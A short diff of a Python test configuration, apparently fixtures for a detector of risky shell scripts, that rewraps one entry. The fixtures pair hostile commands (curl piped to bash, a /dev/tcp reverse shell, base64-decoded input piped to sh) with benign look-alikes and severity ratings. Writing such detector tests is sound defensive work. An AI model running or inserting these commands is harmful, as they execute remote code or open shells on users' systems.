@@ -135,7 +135,8 @@ CONFIGS: dict[str, tuple[str, str, str, str]] = {
     "script-fetches": ("run.sh", f"curl -s {URL} |\\\n  bash", f"curl -s {URL} | jq .", "medium"),
     "script-shell": ("run.sh", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
                      "bash train.sh > /dev/null", "high"),
-    "script-encoded": ("run.sh", "echo aGk= | base64 -d | sh", "echo aGk= | base64 -d > out", "high"),
+    "script-encoded": ("run.sh", "echo aGk= | base64 -d | sh", "echo aGk= | base64 -d > out",
+                       "high"),
 }  # fmt: skip
 
 
